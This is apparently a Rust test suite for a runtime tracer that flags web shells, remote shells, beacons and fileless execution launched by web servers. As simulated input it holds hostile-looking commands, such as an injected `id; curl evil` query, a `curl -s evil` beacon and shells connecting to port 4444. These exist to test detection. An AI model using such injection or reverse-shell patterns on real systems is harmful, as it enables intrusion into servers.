//! Findings about what servers launch.

mod scene;

use scene::{Client, Conn, Scene, Server, Thread, answer, get};
use tracer_common::{AF_INET, Descriptor, Exec, exec_flag};
use tracer_engine::{Finding, Value};

const S: Thread = Thread(20, 20);
const SHELL: Thread = Thread(40, 40);

/// A server that is known, and its connection from a client.
fn server() -> (Scene, Conn) {
    let mut s = Scene::new();
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/first"));
    s.described(20, "/srv/shop", &["/srv/shop"]);
    s.send(S, conn, Server, &answer(200, "ok"));
    s.wait(1_000);
    (s, conn)
}

/// The same while a request is open.
fn serving(target: &str) -> (Scene, Conn) {
    let (mut s, conn) = server();
    s.recv(S, conn, Server, &get(target));
    (s, conn)
}

fn text(finding: &Finding, key: &str) -> Option<String> {
    let (_, value) = finding.attributes.iter().find(|(known, _)| *known == key)?;
    Some(match value {
        Value::Str(text) => text.clone(),
        Value::Word(text) => (*text).to_owned(),
        Value::Strings(texts) => texts.join(" "),
        other => format!("{other:?}"),
    })
}

/// Rule, severity, confidence, and the request's target, of each finding.
fn told(s: &mut Scene) -> Vec<String> {
    s.wait(4_000);
    let line = |finding: &&Finding| {
        let (severity, confidence) = (finding.severity.name(), finding.confidence.name());
        let path = text(finding, "url.path").unwrap_or_default();
        let query = text(finding, "url.query").map_or(String::new(), |query| format!("?{query}"));
        format!("{} {severity} {confidence} {path}{query}", finding.rule).trim_end().to_owned()
    };
    s.found().iter().map(line).collect()
}

fn facts(s: &Scene) -> String {
    let texts = s.found()[0].evidence.iter().map(|fact| fact.text.clone());
    texts.collect::<Vec<_>>().join("\n")
}

#[test]
fn a_web_shell_is_one_finding_with_all_it_ran() {
    let (mut s, conn) = serving("/run?c=id%3B+curl+evil");
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "id; curl evil"]);
    for (pid, program) in [(41, "id"), (42, "curl")] {
        s.fork(SHELL, pid);
        s.exec(Thread(pid, pid), &[program, "evil"]);
        if program == "curl" {
            s.begin_connect(Thread(pid, pid), 8080);
        }
        s.exit(pid, 0);
    }
    s.exit(40, 7 << 8);
    s.send(S, conn, Server, &answer(200, "uid=0"));
    assert_eq!(told(&mut s), ["process.command_from_request critical confirmed /run?c=id%3B+curl+evil"]);
    let all = facts(&s);
    for fact in [
        "forked for GET /run?c=id%3B+curl+evil from 127.0.0.1:",
        "pid 40 ran `sh -c 'id; curl evil'` as user 0, below pid 20 `/srv/shop`",
        "the request's query is the command: `id; curl evil`",
        "pid 42 ran `curl evil` as user 0, below pid 40 `sh -c 'id; curl evil'`",
        "pid 42 `curl evil` connects to 127.0.0.1:8080",
        "pid 40 `sh -c 'id; curl evil'` ended with exit code 7",
    ] {
        assert!(all.contains(fact), "{fact}\n{all}");
    }
    let finding = s.found()[0];
    assert_eq!(text(finding, "process.command_args").as_deref(), Some("sh -c id; curl evil"));
    assert_eq!(text(finding, "http.request.method").as_deref(), Some("GET"));
    assert_eq!(text(finding, "client.address").as_deref(), Some("127.0.0.1"));
    let rules = text(finding, "tracer.finding.rules").unwrap_or_default();
    assert_eq!(rules, "process.command_from_request process.in_request process.shell_in_request");
    // It is an event of the request's span.
    let span = s.spans().into_iter().find(|span| Some((span.trace_id, span.span_id)) == finding.span);
    assert_eq!(span.map(|span| (span.name.as_str(), span.events.len())), Some(("GET", 1)));
}

#[test]
fn two_shells_of_one_request_are_one_finding_and_those_of_two_are_two() {
    let (mut s, conn) = serving("/run?c=id");
    for pid in [40, 50] {
        s.fork(S, pid);
        s.exec(Thread(pid, pid), &["sh", "-c", "id"]);
        s.exit(pid, 0);
    }
    s.send(S, conn, Server, &answer(200, "ok"));
    s.recv(S, conn, Server, &get("/run?c=ls"));
    s.fork(S, 60);
    s.exec(Thread(60, 60), &["sh", "-c", "ls"]);
    s.exit(60, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    assert_eq!(
        told(&mut s),
        [
            "process.command_from_request critical confirmed /run?c=id",
            "process.command_from_request critical confirmed /run?c=ls"
        ]
    );
}

#[test]
fn a_command_in_the_content_of_a_form() {
    let (mut s, conn) = server();
    let content = "a=1&c=aWQ7IHVuYW1lIC1h";
    let head = format!("POST /x HTTP/1.1\r\nHost: h\r\nContent-Length: {}\r\n\r\n", content.len());
    s.recv(S, conn, Server, &head);
    s.recv(S, conn, Server, &content[..7]);
    s.recv(S, conn, Server, &content[7..]);
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "id; uname -a"]);
    s.exit(40, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    assert_eq!(told(&mut s), ["process.command_from_request critical confirmed /x"]);
    assert!(facts(&s).contains("the request's content is the command: `id; uname -a`"));
}

/// One thread, four requests open: only what they say, and what is answered when the child has ended, tells them
/// apart.
fn four_open(targets: [&str; 4]) -> (Scene, Vec<Conn>) {
    let (mut s, _) = server();
    let conns: Vec<_> = targets
        .iter()
        .map(|target| {
            let conn = s.accept(80);
            s.recv(S, conn, Server, &get(target));
            conn
        })
        .collect();
    s.wait(300);
    (s, conns)
}

#[test]
fn of_four_open_requests_the_one_that_says_so_is_named() {
    let (mut s, conns) = four_open(["/a", "/run?c=id", "/b", "/c"]);
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "id"]);
    s.exit(40, 0);
    s.wait(20);
    for n in [1, 0, 2, 3] {
        s.send(S, conns[n], Server, &answer(200, "ok"));
    }
    assert_eq!(told(&mut s), ["process.command_from_request critical confirmed /run?c=id"]);
    let parent = s.finish().into_iter().find(|line| line.starts_with("INTERNAL"));
    assert_eq!(parent.as_deref(), Some("INTERNAL sh -c id = 0 @20 < SERVER /run by content"));
}

#[test]
fn of_four_open_requests_the_one_that_is_answered_after_the_end_is_named() {
    let (mut s, conns) = four_open(["/a", "/b", "/c", "/d"]);
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "whoami"]);
    s.exit(40, 0);
    for n in [2, 0, 1, 3] {
        s.send(S, conns[n], Server, &answer(200, "ok"));
    }
    assert_eq!(told(&mut s), ["process.shell_in_request high probable /c"]);
}

#[test]
fn threads_that_work_on_what_they_read_launch_for_that() {
    let (mut s, _) = server();
    let threads = [21, 22, 23, 24].map(|tid| Thread(20, tid));
    let conns = threads.map(|thread| {
        let conn = s.accept(80);
        s.recv(thread, conn, Server, &get(&format!("/{}", thread.1)));
        conn
    });
    // Another one is answered after each child has ended.
    for (n, thread) in threads.into_iter().enumerate().skip(1) {
        let pid = 40 + n as u32;
        s.fork(thread, pid);
        s.exec(Thread(pid, pid), &["convert", "x"]);
        s.exit(pid, 0);
        s.send(threads[n - 1], conns[n - 1], Server, &answer(200, "ok"));
    }
    s.send(threads[3], conns[3], Server, &answer(200, "ok"));
    s.wait(4_000);
    let lines = s.finish();
    let launches: Vec<_> = lines.iter().filter(|line| line.starts_with("INTERNAL")).collect();
    assert_eq!(
        launches,
        [
            "INTERNAL convert x = 0 @20 < SERVER /22 by thread",
            "INTERNAL convert x = 0 @20 < SERVER /23 by thread",
            "INTERNAL convert x = 0 @20 < SERVER /24 by thread",
        ]
    );
}

#[test]
fn a_launch_that_may_be_for_any_of_four_says_so() {
    let (mut s, conns) = four_open(["/a", "/b", "/c", "/d"]);
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "whoami; sleep 9"]);
    assert_eq!(told(&mut s), ["process.shell_in_request high probable"]);
    assert!(facts(&s).contains("forked for one of 4 requests: "), "{}", facts(&s));
    assert_eq!(text(s.found()[0], "tracer.link.candidates").as_deref(), Some("Int(4)"));
    for conn in conns {
        s.send(S, conn, Server, &answer(200, "ok"));
    }
}

#[test]
fn a_launch_in_the_middle_of_an_answer_is_in_the_request() {
    let (mut s, conn) = serving("/stream?c=id");
    s.send(S, conn, Server, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nok");
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "id"]);
    s.exit(40, 0);
    s.send(S, conn, Server, "ok");
    assert_eq!(told(&mut s), ["process.command_from_request critical confirmed /stream?c=id"]);
}

#[test]
fn what_outlives_its_request_is_still_its() {
    // fork, setsid, fork; the exec comes when the request's span has left.
    let (mut s, conn) = serving("/x?c=touch+f");
    s.fork(S, 40);
    s.fork(SHELL, 41);
    s.exit(40, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    s.wait(10_000);
    s.exec(Thread(41, 41), &["sh", "-c", "touch f"]);
    s.exit(41, 0);
    assert_eq!(told(&mut s), ["process.command_from_request critical confirmed /x?c=touch+f"]);
}

#[test]
fn a_shell_on_a_socket_and_one_that_a_server_becomes() {
    let inet = Descriptor { mode: 0o140_777, family: AF_INET, inode: 5, sock: 6, rdev: 0 };
    let (mut s, conn) = serving("/x");
    s.fork(S, 40);
    s.exec_as(Exec { descriptors: [inet; 3], ..Exec::default() }, SHELL, "/bin/sh", &["sh", "-i"]);
    s.send(S, conn, Server, &answer(200, "ok"));
    assert_eq!(told(&mut s), ["process.remote_shell critical confirmed /x"]);

    let (mut s, _) = serving("/y");
    s.exec(S, &["sh", "-c", "cd /; ls"]);
    assert_eq!(told(&mut s), ["process.remote_shell critical confirmed /y"]);
}

#[test]
fn a_shell_that_connects_itself_and_one_that_listens() {
    let (mut s, conn) = serving("/x");
    s.fork(S, 40);
    s.exec(SHELL, &["bash", "/srv/job"]);
    s.begin_connect(SHELL, 4444);
    s.send(S, conn, Server, &answer(200, "ok"));
    assert_eq!(told(&mut s), ["process.remote_shell critical confirmed /x"]);
}

#[test]
fn a_shell_on_pipes_whose_server_has_just_connected() {
    let pipe = Descriptor { mode: 0o010_600, inode: 9, ..Descriptor::default() };
    let given = Exec { descriptors: [pipe; 3], ..Exec::default() };
    let talk = |before: bool| {
        let (mut s, _) = server();
        let connect = |s: &mut Scene| {
            let there = s.begin_connect(S, 4444);
            s.established(there, S);
            there
        };
        let early = before.then(|| connect(&mut s));
        s.fork(S, 40);
        s.exec_as(given, SHELL, "/bin/sh", &["sh"]);
        let there = early.unwrap_or_else(|| connect(&mut s));
        s.send(S, there, Client, "$ ");
        s.recv(S, there, Client, "id\n");
        s.send(S, there, Client, "uid=0(root)\n$ ");
        told(&mut s)
    };
    for before in [true, false] {
        assert_eq!(talk(before), ["process.remote_shell critical probable"], "{before}");
    }

    // Who has asked a database before is told nothing while the shell runs.
    let (mut s, _) = server();
    let database = s.begin_connect(S, 5432);
    s.established(database, S);
    for _ in 0..3 {
        s.send(S, database, Client, "select x");
        s.recv(S, database, Client, "row");
    }
    s.fork(S, 40);
    s.exec_as(given, SHELL, "/bin/sh", &["sh"]);
    s.exit(40, 0);
    s.send(S, database, Client, "commit");
    s.recv(S, database, Client, "done");
    s.send(S, database, Client, "bye");
    assert_eq!(told(&mut s), ["process.without_request high probable"]);

    // Without the connection it is a shell that no request asked for.
    let (mut s, _) = server();
    s.fork(S, 40);
    s.exec_as(given, SHELL, "/bin/sh", &["sh"]);
    assert_eq!(told(&mut s), ["process.without_request high probable"]);
}

#[test]
fn a_beacon_is_one_finding() {
    let (mut s, _) = server();
    for n in 0..5 {
        s.fork(S, 40 + n);
        s.exec(Thread(40 + n, 40 + n), &["sh", "-c", "curl -s evil"]);
        s.exit(40 + n, 0);
        s.wait(900);
    }
    assert_eq!(told(&mut s), ["process.without_request high probable"]);
    assert!(
        facts(&s).contains("no request was open when it was forked; the last one was answered 1.0 s before")
    );
}

#[test]
fn what_a_server_did_before_its_first_request_is_its_habit() {
    let mut s = Scene::new();
    let tick = |s: &mut Scene, pid: u32| {
        s.fork(S, pid);
        let given = Exec { ppid: 20, ..Exec::default() };
        s.exec_as(given, Thread(pid, pid), "/bin/sh", &["sh", "-c", "ls /tmp | wc -l"]);
        for (child, args) in [(pid + 100, &["ls", "/tmp"]), (pid + 200, &["wc", "-l"])] {
            s.fork(Thread(pid, pid), child);
            s.exec(Thread(child, child), args);
            s.exit(child, 0);
        }
        s.exit(pid, 0);
    };
    tick(&mut s, 40);
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/"));
    s.send(S, conn, Server, &answer(200, "ok"));
    s.wait(100);
    tick(&mut s, 41);
    assert_eq!(told(&mut s), ["process.without_request low suspicious"]);
}

#[test]
fn what_an_entrypoint_launched_is_not_what_its_server_does() {
    let mut s = Scene::new();
    let tick = |s: &mut Scene, pid: u32| {
        s.fork(S, pid);
        let given = Exec { ppid: 20, ..Exec::default() };
        s.exec_as(given, Thread(pid, pid), "/bin/sh", &["sh", "-c", "whoami"]);
        s.exit(pid, 0);
    };
    s.exec(S, &["sh", "/entrypoint.sh"]);
    tick(&mut s, 40);
    s.exec(S, &["shop"]);
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/"));
    s.send(S, conn, Server, &answer(200, "ok"));
    s.wait(100);
    tick(&mut s, 41);
    assert_eq!(told(&mut s), ["process.without_request high probable"]);
}

#[test]
fn a_finding_says_with_whose_rights_how_much_was_sent_and_all_techniques() {
    let (mut s, conn) = serving("/x");
    let code = format!("print({})", "1+".repeat(150));
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "id; python3 -c x"]);
    s.fork(SHELL, 41);
    let given = Exec { uid: 33, euid: 0, flags: exec_flag::MEMFD, ..Exec::default() };
    let python = Thread(41, 41);
    s.exec_as(given, python, "/bin/python3", &["python3", "-c", &code]);
    let away = s.begin_connect(python, 4444);
    s.established(away, python);
    s.send(python, away, Client, "0123456789");
    s.exit(41, 0);
    s.reset(away, Client);
    s.exit(40, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    told(&mut s);
    let all = facts(&s);
    for fact in [
        "as user 33 with the rights of user 0, below pid 40 `sh -c 'id; python3 -c x'`",
        "pid 41 has sent 10 bytes to 127.0.0.1:4444",
        &code,
    ] {
        assert!(all.contains(fact), "{fact}\n{all}");
    }
    let techniques = text(s.found()[0], "threat.technique.id").unwrap_or_default();
    assert!(techniques.contains("T1620") && techniques.contains("T1505.003"), "{techniques}");
}

#[test]
fn an_image_without_a_file() {
    let (mut s, conn) = serving("/x");
    s.fork(S, 40);
    let given = Exec { flags: exec_flag::MEMFD | exec_flag::UNLINKED, ..Exec::default() };
    s.exec_as(given, SHELL, "/proc/self/fd/5", &["[kworker/0:1]"]);
    s.exit(40, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    assert_eq!(told(&mut s), ["process.fileless critical confirmed /x"]);
}

#[test]
fn masters_workers_and_admins_are_quiet() {
    // A master forks workers, which read requests; nobody read one before.
    let mut s = Scene::new();
    s.fork(Thread(10, 10), 20);
    let conn = s.accept(80);
    s.recv(S, conn, Server, &get("/"));
    s.fork(Thread(10, 10), 21);
    s.exec(Thread(21, 21), &["sh", "-c", "exec worker"]);
    s.send(S, conn, Server, &answer(200, "ok"));
    // A worker that is forked for a request and serves others, a helper without an image of its own.
    s.recv(S, conn, Server, &get("/"));
    s.fork(S, 30);
    s.fork(S, 31);
    let other = s.accept(80);
    s.recv(Thread(30, 30), other, Server, &get("/"));
    s.send(Thread(30, 30), other, Server, &answer(200, "ok"));
    s.exit(31, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    // Someone else's shell.
    s.fork(Thread(99, 99), 100);
    s.exec(Thread(100, 100), &["sh", "-c", "id"]);
    s.exit(100, 0);
    assert_eq!(told(&mut s), [""; 0]);
}

#[test]
fn what_an_application_is_there_to_launch_is_told_low_and_once() {
    let (mut s, conn) = server();
    for n in 0..5 {
        s.recv(S, conn, Server, &get("/thumb?size=16"));
        s.fork(S, 40 + n);
        s.exec(Thread(40 + n, 40 + n), &["convert", "-resize", "16", "png:-"]);
        s.exit(40 + n, 0);
        s.send(S, conn, Server, &answer(200, "png"));
        s.wait(1_000);
    }
    assert_eq!(told(&mut s), ["process.in_request low suspicious /thumb?size=16"]);
}

#[test]
fn a_thousand_launches_leave_nothing_behind() {
    let (mut s, conn) = server();
    for n in 0..1000_u32 {
        s.recv(S, conn, Server, &get("/cgi"));
        s.fork(S, 1000 + n);
        s.exec(Thread(1000 + n, 1000 + n), &["convert", "x"]);
        s.exit(1000 + n, 0);
        s.send(S, conn, Server, &answer(200, "ok"));
    }
    assert_eq!(told(&mut s).len(), 1);
    let launches = s.spans().iter().filter(|span| span.name == "convert").count();
    assert_eq!(launches, 1000);
    assert_eq!((s.stats().dropped_findings, s.stats().forgotten_tasks), (0, 0));
}

#[test]
fn a_client_is_no_server() {
    let mut s = Scene::new();
    let conn = s.connect(S, 80);
    s.send(S, conn, Client, &get("/"));
    s.fork(S, 40);
    s.exec(SHELL, &["sh", "-c", "id"]);
    s.exit(40, 0);
    s.recv(S, conn, Client, &answer(200, "ok"));
    assert_eq!(told(&mut s), [""; 0]);
}

#[test]
fn what_a_build_runs_below_its_own_program_is_its_own_business() {
    let (mut s, conn) = serving("/hook?step=echo+ok");
    s.fork(S, 40);
    s.exec(SHELL, &["make", "-s", "test"]);
    s.fork(SHELL, 41);
    s.exec(Thread(41, 41), &["sh", "-c", "python3 -c 'import sys' && id"]);
    for (pid, args) in [(42, &["python3", "-c", "import sys"][..]), (43, &["id"]), (44, &["echo", "ok"])] {
        s.fork(Thread(41, 41), pid);
        s.exec(Thread(pid, pid), args);
        s.exit(pid, 0);
    }
    s.exit(41, 0);
    s.exit(40, 0);
    s.send(S, conn, Server, &answer(200, "ok"));
    let told = told(&mut s);
    assert!(told.iter().all(|finding| finding.contains("medium") || finding.contains("low")), "{told:?}");
}

#[test]
fn what_a_script_of_cgi_runs_is_its_servers_doing_and_no_more_than_that() {
    let script = |below: bool| {
        let (mut s, conn) = serving("/x.sh");
        let cgi = |s: &mut Scene, pid: u32, args: &[&str]| {
            let exec = Exec { flags: exec_flag::CGI, ..Exec::default() };
            s.exec_as(exec, Thread(pid, pid), args[0], args);
        };
        s.fork(S, 40);
        cgi(&mut s, 40, &["/srv/cgi/x.sh"]);
        s.fork(SHELL, 41);
        cgi(&mut s, 41, &["git", "receive-pack", "."]);
        s.fork(Thread(if below { 41 } else { 40 }, 41), 42);
        cgi(&mut s, 42, &["whoami"]);
        for pid in [42, 41, 40] {
            s.exit(pid, 0);
        }
        s.send(S, conn, Server, &answer(200, "ok"));
        told(&mut s)
    };
    assert_eq!(script(false), ["process.in_request high probable /x.sh"]);
    assert_eq!(script(true), ["process.in_request low suspicious /x.sh"]);
}

/// A process of a pool, which was forked for the first of these requests; the others are open when it launches a program.
fn pool(open: &[&str], args: &[&str]) -> Vec<String> {
    let (mut s, conn) = serving("/first-of-the-pool");
    s.fork(S, 40);
    s.wait(5);
    s.send(S, conn, Server, &answer(200, "ok"));
    s.wait(100);
    let conns: Vec<_> = open
        .iter()
        .map(|target| {
            let conn = s.accept(80);
            s.recv(S, conn, Server, &get(target));
            conn
        })
        .collect();
    s.fork(SHELL, 41);
    s.exec(Thread(41, 41), args);
    s.exit(41, 0);
    s.wait(5);
    conns.iter().for_each(|conn| s.send(S, *conn, Server, &answer(200, "ok")));
    told(&mut s)
}

#[test]
fn a_worker_of_a_pool_works_for_what_is_open() {
    assert_eq!(
        pool(&["/a", "/run?c=id%3B+ls"], &["sh", "-c", "id; ls"]),
        ["process.command_from_request critical confirmed /run?c=id%3B+ls"]
    );
    assert_eq!(
        pool(&[], &["sh", "-c", "id; ls"]),
        ["process.shell_in_request high probable /first-of-the-pool"]
    );
    let unclear = pool(&["/a", "/b"], &["sh", "-c", "id; ls"]);
    assert!(unclear.iter().all(|finding| !finding.contains("/first-of-the-pool")), "{unclear:?}");
}
